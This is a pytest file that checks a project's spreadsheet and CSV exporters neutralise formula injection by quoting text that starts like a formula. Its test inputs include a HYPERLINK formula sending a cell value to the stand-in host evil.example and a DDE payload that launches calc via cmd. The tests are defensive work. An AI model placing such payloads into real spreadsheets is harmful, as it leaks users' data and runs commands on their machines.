"""Formula injection (issue #14.4): every export writes text that starts like a formula as inert text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from fangpin.lib.spreadsheet import Workbook, csv_writer, dict_writer, inert

HOSTILE = '=HYPERLINK("http://evil.example/?id="&F4,"x")'
SRC = Path(__file__).resolve().parents[2] / "src" / "fangpin"


@pytest.mark.parametrize("text", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", [-120.5, -3, 0, "-120.5", "+86", "肖凤香", "360722199001011234", None, ""])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert inert(value) == value


@pytest.mark.parametrize("write_only", [False, True])
def test_workbook_sheets_write_hostile_text_inert_and_numbers_as_numbers(write_only: bool) -> None:
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append([HOSTILE, -5, "-5"])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(out).worksheets[0].iter_rows())[0]
    assert cells[0].data_type != "f" and cells[0].value == "'" + HOSTILE
    assert cells[1].value == -5 and cells[1].data_type == "n"


def test_csv_writers_neutralise_text() -> None:
    out = io.StringIO()
    csv_writer(out).writerow([HOSTILE, -5, None])
    dict_writer(out, ["a", "b"]).writerow({"a": "@x", "b": -1})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + HOSTILE, "-5", ""], ["'@x", "-1"]]


WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|from openpyxl import .*Workbook|openpyxl\.Workbook"
)
# synth simulates department files; exchange/push.py writes pushed rows as the importer's input file (a
# value must reach the lake as pushed; it is neutralised where it leaves the system)
NOT_EXPORTS = {"lib/spreadsheet.py", "exchange/push.py"}


def test_no_module_writes_a_spreadsheet_or_csv_without_the_shared_writer() -> None:
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.relative_to(SRC).parts[0] != "synth"
        and str(path.relative_to(SRC)) not in NOT_EXPORTS
        and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
